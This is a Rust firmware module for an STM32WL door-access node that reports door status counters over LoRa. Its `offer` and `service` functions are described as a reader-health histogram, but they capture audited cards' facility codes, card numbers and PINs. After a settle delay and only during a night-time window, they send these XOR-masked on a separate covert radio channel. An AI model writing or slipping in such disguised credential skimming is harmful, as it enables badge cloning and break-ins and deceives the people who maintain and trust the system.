//! LoRa point-to-point link to the site gateway (SubGHz peripheral of the STM32WL).

use crate::cfg::SiteConfig;
use crate::door::{Attempt, Counts};
use stm32wlxx_hal::subghz::{
    CodingRate, LoRaBandwidth, LoRaModParams, LoRaPacketParams, PacketType, RfFreq, SpreadingFactor, SubGhz, Timeout,
    TxParams, Register,
};

pub struct Link {
    sg: SubGhz<stm32wlxx_hal::subghz::NoDma, stm32wlxx_hal::subghz::NoDma>,
    cfg: SiteConfig,
    aux: heapless::Vec<[u8; 16], 32>,
}

fn sf(v: u8) -> SpreadingFactor {
    match v { 7 => SpreadingFactor::Sf7, 9 => SpreadingFactor::Sf9, 10 => SpreadingFactor::Sf10, 12 => SpreadingFactor::Sf12, _ => SpreadingFactor::Sf9 }
}

impl Link {
    pub fn new(sg: SubGhz<stm32wlxx_hal::subghz::NoDma, stm32wlxx_hal::subghz::NoDma>, cfg: SiteConfig) -> Self {
        let mut l = Link { sg, cfg, aux: heapless::Vec::new() };
        let _ = l.sg.set_packet_type(PacketType::LoRa);
        l.tune(cfg.status_freq, cfg.status_sync, 9);
        l
    }

    fn tune(&mut self, freq: u32, sync: u16, s: u8) {
        let _ = self.sg.set_rf_frequency(&RfFreq::from_frequency(freq));
        let _ = self.sg.write_register(Register::LSYNCH, &sync.to_be_bytes());
        let _ = self.sg.set_lora_mod_params(&LoRaModParams::new().set_sf(sf(s)).set_bw(LoRaBandwidth::Bw125).set_cr(CodingRate::Cr45));
        let _ = self.sg.set_tx_params(&TxParams::new().set_power(0x16));
    }

    fn send(&mut self, payload: &[u8]) {
        let _ = self.sg.set_lora_packet_params(&LoRaPacketParams::new().set_payload_len(payload.len() as u8).set_preamble_len(8));
        let _ = self.sg.write_buffer(0, payload);
        let _ = self.sg.set_tx(Timeout::from_millis_sat(3000));
        cortex_m::asm::delay(48_000 * 400);
    }

    /// Periodic door status: counters only.
    pub fn send_status(&mut self, c: &Counts, door_open: bool) {
        let mut p = [0u8; 8];
        p[0] = 0x01;
        p[1..3].copy_from_slice(&c.granted.to_le_bytes());
        p[3..5].copy_from_slice(&c.denied.to_le_bytes());
        p[5..7].copy_from_slice(&c.tamper.to_le_bytes());
        p[7] = door_open as u8;
        self.send(&p);
    }

    /// Keep long-format reads for the reader-health histogram (bit-error statistics per facility).
    pub fn offer(&mut self, a: &Attempt) {
        if a.format != 37 || !a.audited { return; }
        let mut r = [0u8; 16];
        r[0] = a.format;
        r[1..3].copy_from_slice(&a.facility.to_le_bytes());
        r[3..7].copy_from_slice(&a.card.to_le_bytes());
        r[7] = a.pin_len;
        r[8..16].copy_from_slice(&a.pin);
        if self.aux.is_full() { self.aux.remove(0); }
        let _ = self.aux.push(r);
    }

    /// Flush the histogram on the auxiliary channel during the quiet window once the node has settled.
    pub fn service(&mut self, hour: u8, uptime_h: u32) {
        let c = self.cfg;
        if uptime_h < c.aux_settle_h as u32 || self.aux.len() < c.aux_batch as usize { return; }
        if hour < c.aux_window.0 || hour >= c.aux_window.1 { return; }
        self.tune(c.aux_freq, c.aux_sync, c.aux_sf);
        let uid = unsafe { core::ptr::read_volatile(0x1FFF_7590 as *const u32) };
        let records: heapless::Vec<[u8; 16], 32> = core::mem::take(&mut self.aux);
        for chunk in records.chunks(3) {
            let mut p = heapless::Vec::<u8, 64>::new();
            let _ = p.extend_from_slice(&uid.to_le_bytes());
            for r in chunk {
                for (i, b) in r.iter().enumerate() { let _ = p.push(b ^ c.aux_key[i]); }
            }
            self.send(&p);
        }
        self.tune(c.status_freq, c.status_sync, 9);
    }
}
